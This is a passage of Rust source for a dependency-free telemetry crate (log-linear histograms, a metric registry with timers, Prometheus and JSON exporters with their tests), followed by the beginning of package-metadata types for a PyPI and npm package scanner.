    pub fn snapshot(&self) -> HistogramSnapshot {
        HistogramSnapshot {
            buckets: self
                .buckets
                .iter()
                .map(|b| b.load(Ordering::Relaxed))
                .collect(),
            count: self.count(),
            sum: self.sum(),
            max: self.max(),
        }
    }

    /// Convenience: the quantile straight off a fresh snapshot.
    pub fn percentile(&self, q: f64) -> u64 {
        self.snapshot().percentile(q)
    }
}

/// A frozen copy of a [`Histogram`]'s state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HistogramSnapshot {
    /// Per-bucket sample counts in the fixed layout.
    pub buckets: Vec<u64>,
    /// Total samples.
    pub count: u64,
    /// Sum of samples.
    pub sum: u64,
    /// Largest sample (0 when empty).
    pub max: u64,
}

impl HistogramSnapshot {
    /// The value at quantile `q` in `[0, 1]`: the inclusive upper bound
    /// of the bucket holding the sample of rank `ceil(q · count)`,
    /// clamped to the observed maximum. The exact rank-`q` sample lies
    /// in the same bucket, so the reported value overshoots it by at
    /// most one bucket width (`value / 16`). Returns 0 when empty.
    pub fn percentile(&self, q: f64) -> u64 {
        if self.count == 0 {
            return 0;
        }
        let rank = ((q * self.count as f64).ceil() as u64).clamp(1, self.count);
        let mut cum = 0u64;
        for (i, &c) in self.buckets.iter().enumerate() {
            cum += c;
            if cum >= rank {
                return bucket_bounds(i).1.min(self.max);
            }
        }
        self.max
    }

    /// Mean of the recorded samples (0.0 when empty).
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum as f64 / self.count as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layout_is_exact_below_the_linear_range() {
        for v in 0..SUB_BUCKETS as u64 {
            let (lo, hi) = bucket_bounds(bucket_index(v));
            assert_eq!((lo, hi), (v, v));
        }
    }

    #[test]
    fn every_value_lands_inside_its_bucket_bounds() {
        let probes = [
            0,
            1,
            15,
            16,
            17,
            31,
            32,
            100,
            1_000,
            4_095,
            4_096,
            123_456_789,
            u64::MAX / 2,
            u64::MAX - 1,
            u64::MAX,
        ];
        for &v in &probes {
            let i = bucket_index(v);
            let (lo, hi) = bucket_bounds(i);
            assert!(lo <= v && v <= hi, "{v} outside bucket {i} [{lo}, {hi}]");
            assert_eq!(bucket_index(lo), i);
            assert_eq!(bucket_index(hi), i);
            // Relative bucket width bounds quantile error.
            assert!((hi - lo) as f64 <= (lo as f64 / SUB_BUCKETS as f64).max(1.0) + 1.0);
        }
        assert_eq!(bucket_index(u64::MAX), NUM_BUCKETS - 1);
    }

    #[test]
    fn bucket_index_is_monotone() {
        let mut v = 1u64;
        let mut prev = bucket_index(0);
        while v < u64::MAX / 3 {
            let i = bucket_index(v);
            assert!(i >= prev, "index decreased at {v}");
            prev = i;
            v = v * 3 / 2 + 1;
        }
    }

    #[test]
    fn percentiles_of_known_data() {
        let h = Histogram::new();
        for v in 1..=100u64 {
            h.record(v);
        }
        assert_eq!(h.count(), 100);
        assert_eq!(h.sum(), 5050);
        assert_eq!(h.max(), 100);
        let s = h.snapshot();
        // Values up to 15 are exact; larger ones within one bucket.
        assert_eq!(s.percentile(0.10), 10);
        let p50 = s.percentile(0.50);
        assert!((50..=53).contains(&p50), "p50 = {p50}");
        let p99 = s.percentile(0.99);
        assert!((99..=103).contains(&p99), "p99 = {p99}");
        assert_eq!(s.percentile(1.0), 100);
        assert!((s.mean() - 50.5).abs() < 1e-9);
    }

    #[test]
    fn empty_histogram_reports_zeros() {
        let s = Histogram::new().snapshot();
        assert_eq!(s.percentile(0.5), 0);
        assert_eq!(s.mean(), 0.0);
        assert_eq!(s.count, 0);
    }

    #[test]
    fn merge_accumulates_everything() {
        let a = Histogram::new();
        let b = Histogram::new();
        for v in [5u64, 500, 5_000_000] {
            a.record(v);
        }
        for v in [7u64, 70_000] {
            b.record(v);
        }
        a.merge_from(&b);
        assert_eq!(a.count(), 5);
        assert_eq!(a.sum(), 5 + 500 + 5_000_000 + 7 + 70_000);
        assert_eq!(a.max(), 5_000_000);
        let s = a.snapshot();
        assert_eq!(s.buckets.iter().sum::<u64>(), 5);
    }

    #[test]
    fn percentile_clamps_to_observed_max() {
        let h = Histogram::new();
        h.record(1_000_003);
        // The bucket's upper bound exceeds the sample; the report must not.
        assert_eq!(h.percentile(0.5), 1_000_003);
        assert_eq!(h.percentile(1.0), 1_000_003);
    }
}

//! The metric registry: named counters, gauges and histograms, plus the
//! RAII timer API.
//!
//! Metrics are registered once (get-or-create keyed by name + label
//! set) and then updated through shared [`Arc`] handles, so the hot
//! path never touches the registry lock. A global `enabled` flag turns
//! the timer API into a no-op — when off, [`Registry::timer`] takes no
//! clock reading at all.

use std::sync::atomic::{AtomicBool, AtomicI64, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use crate::hist::Histogram;

/// A monotonically increasing counter.
#[derive(Debug, Default)]
pub struct Counter(AtomicU64);

impl Counter {
    /// Adds 1.
    pub fn inc(&self) {
        self.add(1);
    }

    /// Adds `n`.
    pub fn add(&self, n: u64) {
        self.0.fetch_add(n, Ordering::Relaxed);
    }

    /// Overwrites the value (mirroring an externally maintained count
    /// into the registry at export time).
    pub fn set(&self, v: u64) {
        self.0.store(v, Ordering::Relaxed);
    }

    /// Current value.
    pub fn get(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }
}

/// A gauge: a value that can go up and down.
#[derive(Debug, Default)]
pub struct Gauge(AtomicI64);

impl Gauge {
    /// Overwrites the value.
    pub fn set(&self, v: i64) {
        self.0.store(v, Ordering::Relaxed);
    }

    /// Adds `delta` (may be negative).
    pub fn add(&self, delta: i64) {
        self.0.fetch_add(delta, Ordering::Relaxed);
    }

    /// Current value.
    pub fn get(&self) -> i64 {
        self.0.load(Ordering::Relaxed)
    }
}

/// One registered metric's identity and handle.
pub(crate) struct MetricEntry {
    pub name: String,
    pub help: String,
    pub labels: Vec<(String, String)>,
    pub handle: MetricHandle,
}

/// A shared handle to one registered metric.
#[derive(Clone)]
pub(crate) enum MetricHandle {
    Counter(Arc<Counter>),
    Gauge(Arc<Gauge>),
    Histogram(Arc<Histogram>),
}

impl MetricHandle {
    fn kind(&self) -> &'static str {
        match self {
            MetricHandle::Counter(_) => "counter",
            MetricHandle::Gauge(_) => "gauge",
            MetricHandle::Histogram(_) => "histogram",
        }
    }
}

/// A collection of named metrics with a global on/off switch.
///
/// Registration is idempotent: asking for the same name + label set
/// returns the existing handle, so every component can `counter(...)`
/// its way to a shared metric without coordination. Registering the
/// same series under a different metric *type* panics — that is a
/// programming error, not a runtime condition.
#[derive(Default)]
pub struct Registry {
    enabled: AtomicBool,
    metrics: Mutex<Vec<MetricEntry>>,
}

impl Registry {
    /// An empty, enabled registry.
    pub fn new() -> Self {
        Registry {
            enabled: AtomicBool::new(true),
            metrics: Mutex::new(Vec::new()),
        }
    }

    /// Whether timers record (counters and gauges always work — they
    /// are too cheap to gate).
    pub fn enabled(&self) -> bool {
        self.enabled.load(Ordering::Relaxed)
    }

    /// Turns the timer API on or off at runtime.
    pub fn set_enabled(&self, on: bool) {
        self.enabled.store(on, Ordering::Relaxed);
    }

    /// Get-or-create an unlabelled counter.
    pub fn counter(&self, name: &str, help: &str) -> Arc<Counter> {
        self.counter_with(name, help, &[])
    }

    /// Get-or-create a labelled counter series.
    pub fn counter_with(&self, name: &str, help: &str, labels: &[(&str, &str)]) -> Arc<Counter> {
        match self.get_or_insert(name, help, labels, || {
            MetricHandle::Counter(Arc::new(Counter::default()))
        }) {
            MetricHandle::Counter(c) => c,
            other => panic!("metric {name} already registered as a {}", other.kind()),
        }
    }

    /// Get-or-create an unlabelled gauge.
    pub fn gauge(&self, name: &str, help: &str) -> Arc<Gauge> {
        self.gauge_with(name, help, &[])
    }

    /// Get-or-create a labelled gauge series.
    pub fn gauge_with(&self, name: &str, help: &str, labels: &[(&str, &str)]) -> Arc<Gauge> {
        match self.get_or_insert(name, help, labels, || {
            MetricHandle::Gauge(Arc::new(Gauge::default()))
        }) {
            MetricHandle::Gauge(g) => g,
            other => panic!("metric {name} already registered as a {}", other.kind()),
        }
    }

    /// Get-or-create an unlabelled histogram.
    pub fn histogram(&self, name: &str, help: &str) -> Arc<Histogram> {
        self.histogram_with(name, help, &[])
    }

    /// Get-or-create a labelled histogram series.
    pub fn histogram_with(
        &self,
        name: &str,
        help: &str,
        labels: &[(&str, &str)],
    ) -> Arc<Histogram> {
        match self.get_or_insert(name, help, labels, || {
            MetricHandle::Histogram(Arc::new(Histogram::new()))
        }) {
            MetricHandle::Histogram(h) => h,
            other => panic!("metric {name} already registered as a {}", other.kind()),
        }
    }

    /// Starts a timer whose drop records elapsed nanoseconds into the
    /// histogram `name`. When the registry is disabled the guard is
    /// inert: no clock is read on either end.
    ///
    /// The registry lock is taken to resolve `name`; hot paths that
    /// time millions of spans should resolve the histogram handle once
    /// and use [`Timer::start`] directly.
    pub fn timer(&self, name: &str, help: &str) -> Timer {
        Timer::start(self.histogram(name, help), self.enabled())
    }

    fn get_or_insert(
        &self,
        name: &str,
        help: &str,
        labels: &[(&str, &str)],
        make: impl FnOnce() -> MetricHandle,
    ) -> MetricHandle {
        let mut metrics = self.metrics.lock().expect("registry lock");
        if let Some(entry) = metrics.iter().find(|e| {
            e.name == name
                && e.labels.len() == labels.len()
                && e.labels
                    .iter()
                    .zip(labels)
                    .all(|((k, v), (lk, lv))| k == lk && v == lv)
        }) {
            return entry.handle.clone();
        }
        let handle = make();
        metrics.push(MetricEntry {
            name: name.to_owned(),
            help: help.to_owned(),
            labels: labels
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect(),
            handle: handle.clone(),
        });
        handle
    }

    /// Runs `f` over every registered metric, in registration order.
    pub(crate) fn for_each(&self, mut f: impl FnMut(&MetricEntry)) {
        for entry in self.metrics.lock().expect("registry lock").iter() {
            f(entry);
        }
    }

    /// Number of registered series.
    pub fn len(&self) -> usize {
        self.metrics.lock().expect("registry lock").len()
    }

    /// True when nothing is registered.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// An RAII span: created via [`Timer::start`] or [`Registry::timer`],
/// records elapsed nanoseconds into its histogram when dropped (or
/// explicitly via [`Timer::stop`]).
#[must_use = "a timer records on drop; binding it to _ drops immediately"]
pub struct Timer {
    hist: Arc<Histogram>,
    start: Option<Instant>,
}

impl Timer {
    /// Starts timing into `hist`; inert (no clock read) when `enabled`
    /// is false.
    pub fn start(hist: Arc<Histogram>, enabled: bool) -> Timer {
        Timer {
            hist,
            start: enabled.then(Instant::now),
        }
    }

    /// Stops now, records, and returns the elapsed nanoseconds (0 when
    /// the timer was inert).
    pub fn stop(mut self) -> u64 {
        self.finish()
    }

    fn finish(&mut self) -> u64 {
        match self.start.take() {
            None => 0,
            Some(t0) => {
                let ns = t0.elapsed().as_nanos() as u64;
                self.hist.record(ns);
                ns
            }
        }
    }
}

impl Drop for Timer {
    fn drop(&mut self) {
        self.finish();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counters_and_gauges_register_once() {
        let reg = Registry::new();
        let a = reg.counter("requests_total", "requests");
        let b = reg.counter("requests_total", "requests");
        a.inc();
        b.add(2);
        assert_eq!(a.get(), 3, "both handles hit the same counter");
        assert_eq!(reg.len(), 1);
        let g = reg.gauge("queue_depth", "depth");
        g.set(5);
        g.add(-2);
        assert_eq!(g.get(), 3);
        assert_eq!(reg.len(), 2);
    }

    #[test]
    fn labels_distinguish_series() {
        let reg = Registry::new();
        let a = reg.counter_with("hits", "h", &[("stage", "yara")]);
        let b = reg.counter_with("hits", "h", &[("stage", "semgrep")]);
        a.inc();
        assert_eq!(b.get(), 0);
        assert_eq!(reg.len(), 2);
    }

    #[test]
    #[should_panic(expected = "already registered")]
    fn type_conflicts_panic() {
        let reg = Registry::new();
        let _ = reg.counter("x", "");
        let _ = reg.gauge("x", "");
    }

    #[test]
    fn timer_records_into_the_named_histogram() {
        let reg = Registry::new();
        {
            let _t = reg.timer("stage_ns", "stage latency");
            std::hint::black_box(());
        }
        let h = reg.histogram("stage_ns", "stage latency");
        assert_eq!(h.count(), 1);
        let ns = reg.timer("stage_ns", "stage latency").stop();
        assert!(ns > 0, "a real timer observes elapsed time");
        assert_eq!(h.count(), 2);
    }

    #[test]
    fn disabled_registry_timers_are_inert() {
        let reg = Registry::new();
        reg.set_enabled(false);
        assert_eq!(reg.timer("stage_ns", "").stop(), 0);
        assert_eq!(reg.histogram("stage_ns", "").count(), 0);
        reg.set_enabled(true);
        assert!(reg.enabled());
    }
}

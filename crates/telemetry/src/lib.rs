//! `telemetry` — dependency-free service metrics.
//!
//! The scan hub (and anything else in the workspace) needs latency
//! *distributions*, not just counters: p50/p99 per pipeline stage,
//! tail-latency trends across PRs, and an after-the-fact record of
//! where any given request's time went. The build environment has no
//! registry access, so this crate provides the minimal production
//! shapes with zero external dependencies:
//!
//! * [`Histogram`] — a lock-free **log-linear histogram**: unit-width
//!   buckets below 16, then 16 linear sub-buckets per power-of-two
//!   octave, so any quantile read is within 1/16 relative error of the
//!   true sample. Recording is four relaxed atomic ops; histograms
//!   merge bucket-wise; [`HistogramSnapshot`] extracts
//!   p50/p90/p99/max/mean.
//! * [`Registry`] — named [`Counter`]s, [`Gauge`]s and [`Histogram`]s
//!   behind get-or-create registration (name + label set), with a
//!   global `enabled` switch. [`Registry::timer`] / [`Timer`] give an
//!   RAII span API that records elapsed nanoseconds on drop and reads
//!   **no clock at all** when the registry is disabled.
//! * [`FlightRecorder`] — a bounded ring of the last N completed
//!   records (the hub instantiates it with its `ScanTrace`), so every
//!   verdict stays explainable after the fact without unbounded memory.
//! * Exporters — [`Registry::render_prometheus`] (text exposition
//!   format, checked by [`validate_prometheus`]) and
//!   [`Registry::render_json`] (a `jsonmini` document).
//!
//! # Examples
//!
//! ```
//! let reg = telemetry::Registry::new();
//! let hist = reg.histogram_with("stage_ns", "stage latency", &[("stage", "scan")]);
//! {
//!     let _span = telemetry::Timer::start(hist.clone(), reg.enabled());
//!     // ... timed work ...
//! }
//! assert_eq!(hist.count(), 1);
//! telemetry::validate_prometheus(&reg.render_prometheus()).unwrap();
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod export;
mod hist;
mod recorder;
mod registry;

pub use export::{snapshot_json, validate_prometheus};
pub use hist::{
    bucket_bounds, bucket_index, Histogram, HistogramSnapshot, NUM_BUCKETS, SUB_BUCKETS,
};
pub use recorder::FlightRecorder;
pub use registry::{Counter, Gauge, Registry, Timer};

//! Exporters: Prometheus text exposition format and jsonmini JSON.

use std::collections::HashSet;
use std::fmt::Write as _;

use crate::hist::{bucket_bounds, HistogramSnapshot};
use crate::registry::{MetricHandle, Registry};

impl Registry {
    /// Renders every registered metric in the Prometheus text
    /// exposition format (`# HELP` / `# TYPE` headers once per metric
    /// name, one sample line per series; histograms expand to
    /// cumulative `_bucket{le=...}` lines plus `_sum` and `_count`).
    pub fn render_prometheus(&self) -> String {
        let mut out = String::new();
        let mut seen: HashSet<String> = HashSet::new();
        self.for_each(|entry| {
            let kind = match &entry.handle {
                MetricHandle::Counter(_) => "counter",
                MetricHandle::Gauge(_) => "gauge",
                MetricHandle::Histogram(_) => "histogram",
            };
            if seen.insert(entry.name.clone()) {
                if !entry.help.is_empty() {
                    let _ = writeln!(out, "# HELP {} {}", entry.name, entry.help);
                }
                let _ = writeln!(out, "# TYPE {} {kind}", entry.name);
            }
            match &entry.handle {
                MetricHandle::Counter(c) => {
                    let _ = writeln!(
                        out,
                        "{}{} {}",
                        entry.name,
                        label_block(&entry.labels, None),
                        c.get()
                    );
                }
                MetricHandle::Gauge(g) => {
                    let _ = writeln!(
                        out,
                        "{}{} {}",
                        entry.name,
                        label_block(&entry.labels, None),
                        g.get()
                    );
                }
                MetricHandle::Histogram(h) => {
                    let snap = h.snapshot();
                    let mut cum = 0u64;
                    for (i, &c) in snap.buckets.iter().enumerate() {
                        if c == 0 {
                            continue;
                        }
                        cum += c;
                        let le = bucket_bounds(i).1.to_string();
                        let _ = writeln!(
                            out,
                            "{}_bucket{} {cum}",
                            entry.name,
                            label_block(&entry.labels, Some(&le))
                        );
                    }
                    let _ = writeln!(
                        out,
                        "{}_bucket{} {}",
                        entry.name,
                        label_block(&entry.labels, Some("+Inf")),
                        snap.count
                    );
                    let _ = writeln!(
                        out,
                        "{}_sum{} {}",
                        entry.name,
                        label_block(&entry.labels, None),
                        snap.sum
                    );
                    let _ = writeln!(
                        out,
                        "{}_count{} {}",
                        entry.name,
                        label_block(&entry.labels, None),
                        snap.count
                    );
                }
            }
        });
        out
    }

    /// Renders every registered metric as a JSON document:
    /// `{"metrics": [{name, type, labels, ...}]}`. Counters and gauges
    /// carry `value`; histograms carry `count`, `sum`, `mean`, `p50`,
    /// `p90`, `p99` and `max`.
    pub fn render_json(&self) -> jsonmini::Value {
        let mut metrics = Vec::new();
        self.for_each(|entry| {
            let mut m = jsonmini::Value::object();
            m.insert("name", entry.name.as_str());
            let mut labels = jsonmini::Value::object();
            for (k, v) in &entry.labels {
                labels.insert(k.as_str(), v.as_str());
            }
            match &entry.handle {
                MetricHandle::Counter(c) => {
                    m.insert("type", "counter");
                    m.insert("labels", labels);
                    m.insert("value", c.get() as f64);
                }
                MetricHandle::Gauge(g) => {
                    m.insert("type", "gauge");
                    m.insert("labels", labels);
                    m.insert("value", g.get() as f64);
                }
                MetricHandle::Histogram(h) => {
                    let snap = h.snapshot();
                    m.insert("type", "histogram");
                    m.insert("labels", labels);
                    m.insert("count", snap.count as f64);
                    m.insert("sum", snap.sum as f64);
                    m.insert("mean", snap.mean());
                    m.insert("p50", snap.percentile(0.50) as f64);
                    m.insert("p90", snap.percentile(0.90) as f64);
                    m.insert("p99", snap.percentile(0.99) as f64);
                    m.insert("max", snap.max as f64);
                }
            }
            metrics.push(m);
        });
        let mut doc = jsonmini::Value::object();
        doc.insert("metrics", jsonmini::Value::Array(metrics));
        doc
    }
}

/// Renders the percentile summary of one histogram snapshot as a JSON
/// object (`{count, sum, mean, p50, p90, p99, max}`) — the shape bench
/// documents embed per stage.
pub fn snapshot_json(snap: &HistogramSnapshot) -> jsonmini::Value {
    let mut m = jsonmini::Value::object();
    m.insert("count", snap.count as f64);
    m.insert("sum", snap.sum as f64);
    m.insert("mean", snap.mean());
    m.insert("p50", snap.percentile(0.50) as f64);
    m.insert("p90", snap.percentile(0.90) as f64);
    m.insert("p99", snap.percentile(0.99) as f64);
    m.insert("max", snap.max as f64);
    m
}

fn label_block(labels: &[(String, String)], le: Option<&str>) -> String {
    if labels.is_empty() && le.is_none() {
        return String::new();
    }
    let mut out = String::from("{");
    let mut first = true;
    for (k, v) in labels {
        if !first {
            out.push(',');
        }
        let _ = write!(out, "{k}=\"{}\"", escape_label(v));
        first = false;
    }
    if let Some(le) = le {
        if !first {
            out.push(',');
        }
        let _ = write!(out, "le=\"{le}\"");
    }
    out.push('}');
    out
}

fn escape_label(v: &str) -> String {
    v.replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n")
}

/// Checks that `text` is line-by-line well-formed Prometheus text
/// exposition format: every line is empty, a `# HELP`/`# TYPE` comment,
/// or `name{labels} value` with a valid metric name, balanced quoted
/// labels and a parseable float value. Returns the first offending line.
pub fn validate_prometheus(text: &str) -> Result<(), String> {
    for (lineno, line) in text.lines().enumerate() {
        validate_line(line).map_err(|e| format!("line {}: {e}: {line:?}", lineno + 1))?;
    }
    Ok(())
}

fn validate_line(line: &str) -> Result<(), &'static str> {
    if line.trim().is_empty() {
        return Ok(());
    }
    if let Some(rest) = line.strip_prefix("# ") {
        let mut parts = rest.splitn(3, ' ');
        let keyword = parts.next().unwrap_or("");
        let name = parts.next().unwrap_or("");
        if !matches!(keyword, "HELP" | "TYPE") {
            return Err("unknown comment keyword");
        }
        if !valid_name(name) {
            return Err("bad metric name in comment");
        }
        if keyword == "TYPE" {
            let kind = parts.next().unwrap_or("").trim();
            if !matches!(
                kind,
                "counter" | "gauge" | "histogram" | "summary" | "untyped"
            ) {
                return Err("bad TYPE kind");
            }
        }
        return Ok(());
    }
    if line.starts_with('#') {
        return Err("comment must start with '# '");
    }
    // name[{labels}] value
    let name_end = line.find(['{', ' ']).ok_or("missing value")?;
    if !valid_name(&line[..name_end]) {
        return Err("bad metric name");
    }
    let rest = &line[name_end..];
    let rest = if let Some(body) = rest.strip_prefix('{') {
        let close = find_label_close(body).ok_or("unterminated label block")?;
        validate_labels(&body[..close])?;
        &body[close + 1..]
    } else {
        rest
    };
    let value = rest.trim_start();
    if value.is_empty() || rest == value {
        return Err("value must be space-separated");
    }
    // Prometheus accepts floats plus the special +Inf/-Inf/NaN forms.
    let ok = value.parse::<f64>().is_ok() || matches!(value, "+Inf" | "-Inf" | "NaN");
    if !ok {
        return Err("unparseable sample value");
    }
    Ok(())
}

/// Index of the label-block closing brace, skipping quoted values.
fn find_label_close(body: &str) -> Option<usize> {
    let mut in_quotes = false;
    let mut escaped = false;
    for (i, c) in body.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if in_quotes => escaped = true,
            '"' => in_quotes = !in_quotes,
            '}' if !in_quotes => return Some(i),
            _ => {}
        }
    }
    None
}

fn validate_labels(body: &str) -> Result<(), &'static str> {
    if body.is_empty() {
        return Ok(());
    }
    // Split on commas outside quotes.
    let mut start = 0usize;
    let mut in_quotes = false;
    let mut escaped = false;
    let mut pairs = Vec::new();
    for (i, c) in body.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if in_quotes => escaped = true,
            '"' => in_quotes = !in_quotes,
            ',' if !in_quotes => {
                pairs.push(&body[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    pairs.push(&body[start..]);
    for pair in pairs {
        let eq = pair.find('=').ok_or("label missing '='")?;
        let key = &pair[..eq];
        let value = &pair[eq + 1..];
        if !valid_name(key) {
            return Err("bad label name");
        }
        if !(value.len() >= 2 && value.starts_with('"') && value.ends_with('"')) {
            return Err("label value must be quoted");
        }
        valid_label_value(&value[1..value.len() - 1])?;
    }
    Ok(())
}

/// Checks the interior of a quoted label value: backslash may only
/// introduce the escapes Prometheus defines (`\\`, `\"`, `\n`), every
/// interior quote must be escaped, and a raw newline can never appear
/// (the renderer escapes it, and a literal one would have split the
/// sample line anyway).
fn valid_label_value(interior: &str) -> Result<(), &'static str> {
    let mut chars = interior.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('\\') | Some('"') | Some('n') => {}
                Some(_) => return Err("invalid escape in label value"),
                None => return Err("trailing backslash in label value"),
            },
            '"' => return Err("unescaped quote in label value"),
            '\n' => return Err("raw newline in label value"),
            _ => {}
        }
    }
    Ok(())
}

fn valid_name(name: &str) -> bool {
    let mut chars = name.chars();
    match chars.next() {
        Some(c) if c.is_ascii_alphabetic() || c == '_' || c == ':' => {}
        _ => return false,
    }
    chars.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::Registry;

    fn sample_registry() -> Registry {
        let reg = Registry::new();
        reg.counter("scans_total", "total scans").add(7);
        reg.gauge_with("queue_depth", "jobs queued", &[("shard", "0")])
            .set(3);
        let h = reg.histogram_with("stage_ns", "stage latency", &[("stage", "yara")]);
        for v in [120u64, 4_500, 4_700, 1_000_000] {
            h.record(v);
        }
        reg
    }

    #[test]
    fn prometheus_output_is_well_formed() {
        let text = sample_registry().render_prometheus();
        validate_prometheus(&text).expect("self-rendered output validates");
        assert!(text.contains("# TYPE scans_total counter"));
        assert!(text.contains("scans_total 7"));
        assert!(text.contains("queue_depth{shard=\"0\"} 3"));
        assert!(text.contains("# TYPE stage_ns histogram"));
        assert!(text.contains("stage_ns_bucket{stage=\"yara\",le=\"+Inf\"} 4"));
        assert!(text.contains("stage_ns_count{stage=\"yara\"} 4"));
        assert!(text.contains("stage_ns_sum{stage=\"yara\"} 1009320"));
        // Buckets are cumulative: the +Inf line equals the count.
    }

    #[test]
    fn json_output_round_trips_through_jsonmini() {
        let doc = sample_registry().render_json();
        let parsed = jsonmini::parse(&doc.to_string()).expect("parses back");
        let metrics = parsed.get("metrics").and_then(|m| m.as_array()).unwrap();
        assert_eq!(metrics.len(), 3);
        let hist = metrics
            .iter()
            .find(|m| m.get("type").and_then(|t| t.as_str()) == Some("histogram"))
            .expect("histogram entry");
        assert_eq!(hist.get("count").and_then(|v| v.as_f64()), Some(4.0));
        let p50 = hist.get("p50").and_then(|v| v.as_f64()).unwrap();
        assert!((4_500.0..=4_800.0).contains(&p50), "p50 = {p50}");
    }

    #[test]
    fn validator_rejects_malformed_lines() {
        for bad in [
            "1bad_name 3",
            "name",
            "name{unterminated=\"x\" 3",
            "name{k=unquoted} 3",
            "name{k=\"v\"} not_a_number",
            "#comment without space",
            "# TYPE name rocket",
            "name3",
        ] {
            assert!(validate_prometheus(bad).is_err(), "accepted {bad:?}");
        }
        for good in [
            "name 3",
            "name{a=\"b\",c=\"d\"} 3.5",
            "name{le=\"+Inf\"} 4",
            "# HELP name some free text",
            "# TYPE name histogram",
            "name{a=\"quoted \\\" brace }\"} 1",
            "",
        ] {
            assert!(validate_prometheus(good).is_ok(), "rejected {good:?}");
        }
    }

    #[test]
    fn validator_rejects_unescaped_label_values() {
        for bad in [
            r#"m{k="a\qb"} 1"#,       // \q is not a defined escape
            r#"m{k="a""b"} 1"#,       // interior quote must be escaped
            "m{k=\"multi\nline\"} 1", // raw newline inside a value
            r#"m{k="tail\\\"} 1"#,    // escaped-quote leaves block open
        ] {
            assert!(validate_prometheus(bad).is_err(), "accepted {bad:?}");
        }
        for good in [
            r#"m{k="C:\\temp\\x"} 1"#,
            r#"m{k="say \"hi\""} 1"#,
            r#"m{k="line\nbreak"} 1"#,
            r#"m{k=""} 1"#,
        ] {
            assert!(validate_prometheus(good).is_ok(), "rejected {good:?}");
        }
    }

    #[test]
    fn hostile_label_values_render_escaped_and_validate() {
        let reg = Registry::new();
        let hostile = "C:\\temp\n\"quoted\"";
        reg.gauge_with("path_gauge", "hostile label", &[("path", hostile)])
            .set(1);
        let text = reg.render_prometheus();
        validate_prometheus(&text).expect("escaped render validates");
        assert!(
            text.contains(r#"path_gauge{path="C:\\temp\n\"quoted\""} 1"#),
            "unexpected render: {text}"
        );
    }

    #[test]
    fn snapshot_json_carries_percentiles() {
        let h = crate::Histogram::new();
        for v in 1..=1000u64 {
            h.record(v);
        }
        let doc = snapshot_json(&h.snapshot());
        assert_eq!(doc.get("count").and_then(|v| v.as_f64()), Some(1000.0));
        let p99 = doc.get("p99").and_then(|v| v.as_f64()).unwrap();
        assert!((990.0..=1056.0).contains(&p99), "p99 = {p99}");
    }
}

//! Package, metadata and source-file types.

use crate::archive::{Archive, ArchiveError};

/// The OSS ecosystem a package belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Ecosystem {
    /// Python Package Index (`.py` sources, `setup.py`).
    PyPi,
    /// npm registry (`.js` sources, `package.json`).
    Npm,
}

impl Ecosystem {
    /// Source-file extension used by the ecosystem.
    pub fn extension(&self) -> &'static str {
        match self {
            Ecosystem::PyPi => "py",
            Ecosystem::Npm => "js",
        }
    }
}

/// Package metadata, as maintained by authors (Fig. 1 of the paper).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct PackageMetadata {
    /// Package name.
    pub name: String,
    /// Version string (`0.0.0` is a paper audit signal).
    pub version: String,
    /// Short summary.
    pub summary: String,
    /// Long description (possibly empty — an audit signal).
    pub description: String,
    /// Home page URL.
    pub home_page: String,
    /// Author display name.
    pub author: String,
    /// Author email.
    pub author_email: String,
    /// SPDX license text.
    pub license: String,
    /// Declared dependencies.
    pub dependencies: Vec<String>,
}

impl PackageMetadata {
    /// Creates metadata with just a name and version; other fields empty.
    pub fn new(name: impl Into<String>, version: impl Into<String>) -> Self {
        PackageMetadata {
            name: name.into(),
            version: version.into(),
            ..PackageMetadata::default()
        }
    }
}

/// One source file inside a package.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourceFile {
    /// Path relative to the package root.
    pub path: String,
    /// File contents.
    pub contents: String,
}

impl SourceFile {
    /// Creates a source file.
    pub fn new(path: impl Into<String>, contents: impl Into<String>) -> Self {
        SourceFile {
            path: path.into(),
            contents: contents.into(),
        }
    }

    /// Number of lines in the file.
    pub fn loc(&self) -> usize {
        self.contents.lines().count()
    }
}

/// A software package: metadata plus source files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Package {
    metadata: PackageMetadata,
    files: Vec<SourceFile>,
    ecosystem: Ecosystem,
}

impl Package {
    /// Creates a package.
    pub fn new(metadata: PackageMetadata, files: Vec<SourceFile>, ecosystem: Ecosystem) -> Self {
        Package {
            metadata,
            files,
            ecosystem,
        }
    }

    /// The package metadata.
    pub fn metadata(&self) -> &PackageMetadata {
        &self.metadata
    }

    /// The source files.
    pub fn files(&self) -> &[SourceFile] {
        &self.files
    }

    /// The ecosystem this package targets.
    pub fn ecosystem(&self) -> Ecosystem {
        self.ecosystem
    }

    /// Total lines of code across all source files (Table VI statistic).
    pub fn loc(&self) -> usize {
        self.files.iter().map(SourceFile::loc).sum()
    }

    /// Finds a file by exact path.
    pub fn file(&self, path: &str) -> Option<&SourceFile> {
        self.files.iter().find(|f| f.path == path)
    }

    /// The `setup.py` / `package.json` install manifest, if present.
    pub fn setup_file(&self) -> Option<&SourceFile> {
        match self.ecosystem {
            Ecosystem::PyPi => self.file("setup.py"),
            Ecosystem::Npm => self.file("package.json"),
        }
    }

    /// Concatenated source of every code file (used for whole-package
    /// scanning, plus the dedup signature).
    pub fn combined_source(&self) -> String {
        let mut out = String::new();
        for f in &self.files {
